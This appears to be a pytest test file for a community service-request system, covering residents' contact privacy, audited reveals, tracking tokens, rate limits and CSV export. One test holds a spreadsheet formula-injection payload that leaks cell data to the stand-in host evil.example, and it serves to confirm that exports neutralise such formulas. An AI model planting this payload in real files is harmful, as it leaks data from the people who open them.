"""Residents' privacy over HTTP: who sees a name and phone (the rule of domain.privacy, as
a matrix of role x endpoint x where the viewer stands), revealing with an audit, the
tracking token, and what a resident's filing may say and set."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from api import roster
from api.ledger import intake_filings
from api.roster import Role
from closeloop.bootstrap import demo_password
from domain.ladder import Level, UnitKind
from domain.privacy import RequestFacts, Sight, Viewer, mask_name, mask_phone, sight
from domain.state import Assignment
from tests.stack.conftest import Stack, StackFactory

NAME, PHONE = "欧阳娜娜", "13912345678"
GRID1 = "医院西路社区第一网格"
#: A handler of another town: the request must not exist for them.
STRANGER = "stranger"
STRANGER_PASSWORD = "quiet-lantern-orchard-41"


async def _stranger(s: Stack) -> None:
    town = roster.create_unit("红星镇", UnitKind.TOWN, db=s.engine)
    roster.create_user(
        STRANGER,
        STRANGER_PASSWORD,
        "外镇党委",
        Role.HANDLER,
        [Assignment(town.id, Level.TOWN_COMMITTEE)],
        db=s.engine,
    )
    answer = await s.http.post(
        "/api/v1/auth/token", data={"username": STRANGER, "password": STRANGER_PASSWORD}
    )
    assert answer.status_code == 200, answer.text
    s.headers[STRANGER] = {"Authorization": f"Bearer {answer.json()['access_token']}"}


def _viewer(s: Stack, username: str) -> Viewer:
    user = roster.get_user_by_username(username, db=s.engine)
    assert user is not None
    return Viewer(user.role.value, user.assignments)


def _expect_contact(body: str, seen: Sight) -> None:
    """The body holds the contact in full, masked, or not at all, as ``seen`` says."""
    if seen is Sight.FULL:
        assert PHONE in body and NAME in body
    else:
        assert PHONE not in body and NAME not in body
    if seen is Sight.MASKED:
        assert mask_phone(PHONE) in body and mask_name(NAME) in body


async def _reads(s: Stack, username: str, rid: str) -> dict[str, httpx.Response]:
    """Every endpoint that can show this request to ``username``, answered."""
    auth = s.auth(username)
    role = _viewer(s, username).role
    answers = {"GET /requests/{id}": await s.http.get(f"/api/v1/requests/{rid}", headers=auth)}
    if role in ("supervisor", "admin"):
        answers["GET /requests"] = await s.http.get("/api/v1/requests", headers=auth)
    if role == "handler":
        answers["GET /tasks"] = await s.http.get("/api/v1/tasks", headers=auth)
    if role == "caller":
        answers["GET /followups"] = await s.http.get("/api/v1/followups", headers=auth)
    return answers


USERS = ("worker1", "worker2", "branch1", "community1", "town1", "caller1", "supervisor1",
         "admin", STRANGER)  # fmt: skip


async def test_who_sees_the_contact_follows_the_one_rule(make_stack: StackFactory) -> None:
    """For each user and each state, the answer's status and contact are what
    ``domain.privacy.sight`` says for that user, on every endpoint that shows the request."""
    s = await make_stack()
    await _stranger(s)
    rid = (await s.file(GRID1, resident={"name": NAME, "phone": PHONE}))["id"]

    async def check(state: str) -> None:
        view = await s.projected(rid)
        facts = RequestFacts.of(view)
        for username in USERS:
            seen = sight(_viewer(s, username), facts)
            for endpoint, answer in (await _reads(s, username, rid)).items():
                where = f"{state}: {username} on {endpoint}"
                if endpoint == "GET /requests/{id}":
                    assert answer.status_code == (404 if seen is Sight.NONE else 200), where
                else:
                    assert answer.status_code == 200, where
                try:
                    _expect_contact(answer.text, seen if rid in answer.text else Sight.NONE)
                except AssertionError:
                    raise AssertionError(f"{where}: {answer.text[:300]}") from None

    await check("filed")
    assert (await s.act("worker1", rid, "escalate", {"reason": "需要协调"})).status_code == 200
    await s.projected(rid, lambda r: r["level"] == "grid_branch")
    await check("at the branch")  # the worker still sees it in full: an earlier level
    assert (await s.act("branch1", rid, "accept")).status_code == 200
    assert (await s.act("branch1", rid, "resolve", {"resolution": "已协调"})).status_code == 200
    await s.projected(rid, lambda r: r["status"] == "resolved")
    await check("resolved")  # the caller now sees it in full
    # the sight is what the rule says: spot checks against the table in the README
    facts = RequestFacts.of(await s.projected(rid))
    assert sight(_viewer(s, "worker2"), facts) is Sight.NONE
    assert sight(_viewer(s, STRANGER), facts) is Sight.NONE
    assert sight(_viewer(s, "caller1"), facts) is Sight.FULL
    assert sight(_viewer(s, "supervisor1"), facts) is Sight.MASKED


async def test_a_stranger_cannot_act_on_or_follow_the_request(make_stack: StackFactory) -> None:
    s = await make_stack()
    await _stranger(s)
    rid = (await s.file(GRID1))["id"]
    for action, body in (("accept", {}), ("escalate", {"reason": "x"})):
        answer = await s.act(STRANGER, rid, action, body)
        assert (answer.status_code, answer.json()["code"]) == (404, "request_not_found")
    follow = await s.http.get(
        "/api/v1/stream", params={"request_id": rid}, headers=s.auth(STRANGER)
    )
    assert follow.status_code == 404


async def test_a_supervisor_reveals_with_a_reason_and_it_is_audited(
    make_stack: StackFactory,
) -> None:
    s = await make_stack()
    rid = (await s.file(GRID1, resident={"name": NAME, "phone": PHONE}))["id"]
    view = await s.projected(rid)
    assert (view["contact"], view["may_reveal"]) == ("masked", True)
    assert view["resident"] == {"name": mask_name(NAME), "phone": mask_phone(PHONE)}
    reveal = f"/api/v1/requests/{rid}/reveal"
    # a reason is required, and the refusal writes no record
    answer = await s.http.post(reveal, json={}, headers=s.auth("supervisor1"))
    assert answer.status_code == 422 and PHONE not in answer.text
    # only supervisors and admins reveal
    for username in ("worker1", "caller1"):
        answer = await s.http.post(reveal, json={"reason": "需要回电"}, headers=s.auth(username))
        assert answer.status_code == 403
    reveals = await s.http.get("/api/v1/reveals", headers=s.auth("supervisor1"))
    assert reveals.json() == [] and reveals.headers["X-Total-Count"] == "0"

    why = "居民投诉处理超时，需要直接回电"
    answer = await s.http.post(reveal, json={"reason": why}, headers=s.auth("supervisor1"))
    assert answer.status_code == 200, answer.text
    assert answer.json()["resident"] == {"name": NAME, "phone": PHONE}
    answer = await s.http.post(reveal, json={"reason": "核实身份"}, headers=s.auth("admin"))
    assert answer.status_code == 200
    listed = await s.http.get(
        "/api/v1/reveals", params={"request_id": rid}, headers=s.auth("supervisor1")
    )
    records = listed.json()
    assert [(r["username"], r["role"], r["reason"]) for r in records] == [
        ("admin", "admin", "核实身份"),
        ("supervisor1", "supervisor", why),
    ]
    assert all(r["request_id"] == rid and r["at"] for r in records)
    assert PHONE not in listed.text  # the audit says who looked, not what they saw
    assert (await s.http.get("/api/v1/reveals", headers=s.auth("worker1"))).status_code == 403
    # revealing leaves the request's own view masked
    again = await s.http.get(f"/api/v1/requests/{rid}", headers=s.auth("supervisor1"))
    assert PHONE not in again.text


async def test_the_tracking_link_is_a_random_secret(make_stack: StackFactory) -> None:
    s = await make_stack()
    filed = await s.file(GRID1)
    token, rid = filed["tracking_token"], filed["id"]
    assert len(token) >= 32 and token != rid  # 192 random bits, not the request id
    await s.projected(rid)
    tracked = await s.http.get(f"/api/v1/track/{token}")
    assert tracked.status_code == 200 and tracked.json()["id"] == rid
    assert tracked.headers["Referrer-Policy"] == "no-referrer"
    assert "noindex" in tracked.headers["X-Robots-Tag"]
    # the request id (which staff see, and which an Idempotency-Key could give away) is
    # not a tracking link; neither is a guess
    assert (await s.http.get(f"/api/v1/track/{rid}")).status_code == 404
    assert (await s.http.get(f"/api/v1/track/{token[:-1]}A")).status_code in (404,)
    page = await s.http.get(f"/track/{token}")
    assert page.status_code == 200 and 'content="noindex' in page.text
    assert page.headers["Referrer-Policy"] == "no-referrer"
    assert (await s.http.get(f"/track/{rid}")).status_code == 404
    # the public stream follows the token, not the id
    assert (await s.http.get("/api/v1/stream", params={"request_id": rid})).status_code == 401
    # nothing about the token in what staff read
    staff = await s.http.get(f"/api/v1/requests/{rid}", headers=s.auth("supervisor1"))
    assert token not in staff.text


async def test_a_resident_cannot_set_the_tier_but_may_mark_it_urgent(
    make_stack: StackFactory,
) -> None:
    s = await make_stack()
    body: dict[str, Any] = {
        "grid_id": s.grids[GRID1], "category": "pothole", "description": "路面塌陷",
        "channel": "app", "resident": {"name": NAME, "phone": PHONE},
    }  # fmt: skip
    answer = await s.http.post("/api/v1/requests", json={**body, "tier": "1m"})
    assert answer.status_code == 422
    assert (answer.json()["code"], answer.json()["field"]) == ("tier_staff_only", "tier")
    assert s.store.recorder.max_notification_id() in (None, 0)
    urgent = await s.http.post("/api/v1/requests", json={**body, "urgent": True})
    assert urgent.status_code == 201 and urgent.json()["tier"] == "3d"
    view = await s.projected(urgent.json()["id"])
    assert view["urgent"] is True
    staff = await s.http.post(
        "/api/v1/requests", json={**body, "tier": "5d"}, headers=s.auth("worker1")
    )
    assert staff.status_code == 201 and staff.json()["tier"] == "5d"
    assert staff.json()["urgent"] is False


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_in_a_csv_cell_is_text(start: str) -> None:
    from web.common import csv_cell

    assert csv_cell(start + "HYPERLINK(1)") == "'" + start + "HYPERLINK(1)"
    assert csv_cell("路面塌陷") == "路面塌陷" and csv_cell(-3) == -3


async def test_the_board_export_neutralises_formulas(make_stack: StackFactory) -> None:
    s = await make_stack()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    rid = (await s.file(GRID1, description=formula))["id"]
    await s.projected(rid)
    login = {"username": "supervisor1", "password": demo_password("supervisor1")}
    assert (await s.http.post("/web/session", data=login)).status_code in (200, 303)
    exported = await s.http.get("/board/requests.csv")
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells and formula not in cells
    assert PHONE not in exported.text and str(uuid.UUID(rid)) in exported.text


def test_the_readme_table_is_the_rule() -> None:
    """The README's table of who sees what is printed by the rule itself."""
    from pathlib import Path

    from domain.privacy import table

    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    assert table() in readme


async def test_anonymous_intake_is_rate_limited_per_address_and_phone(
    make_stack: StackFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CLOSELOOP_INTAKE_PER_ADDRESS", "4")
    monkeypatch.setenv("CLOSELOOP_INTAKE_PER_PHONE", "2")
    s = await make_stack()

    def body(phone: str) -> dict[str, Any]:
        return {"grid_id": s.grids[GRID1], "category": "noise", "description": "楼下装修",
                "channel": "app", "resident": {"name": NAME, "phone": phone}}  # fmt: skip

    # one phone: 2 an hour, then 429 with Retry-After, and nothing is filed
    for _ in range(2):
        assert (await s.http.post("/api/v1/requests", json=body(PHONE))).status_code == 201
    refused = await s.http.post("/api/v1/requests", json=body(PHONE))
    assert refused.status_code == 429 and refused.json()["code"] == "too_many_filings"
    assert 0 < int(refused.headers["Retry-After"]) <= 3600
    assert refused.json()["params"]["per"] == "phone number"
    # the same number written otherwise is the same number
    spaced = await s.http.post("/api/v1/requests", json=body("139 1234 5678"))
    assert spaced.status_code == 429
    filed = s.store.recorder.max_notification_id()
    # one address: 4 a minute (the refused ones counted nothing), then 429
    assert (await s.http.post("/api/v1/requests", json=body("13700000001"))).status_code == 201
    assert (await s.http.post("/api/v1/requests", json=body("13700000002"))).status_code == 201
    refused = await s.http.post("/api/v1/requests", json=body("13700000003"))
    assert refused.status_code == 429 and refused.json()["params"]["per"] == "address"
    assert 0 < int(refused.headers["Retry-After"]) <= 60
    assert s.store.recorder.max_notification_id() == (filed or 0) + 2
    # staff filing for residents are not counted
    staff = await s.http.post("/api/v1/requests", json=body(PHONE), headers=s.auth("worker1"))
    assert staff.status_code == 201
    # the table holds no phone number in clear
    with s.engine.connect() as conn:
        keys = [row.key for row in conn.execute(select(intake_filings))]
    assert keys and not any("1391234" in key or "13700000" in key for key in keys)
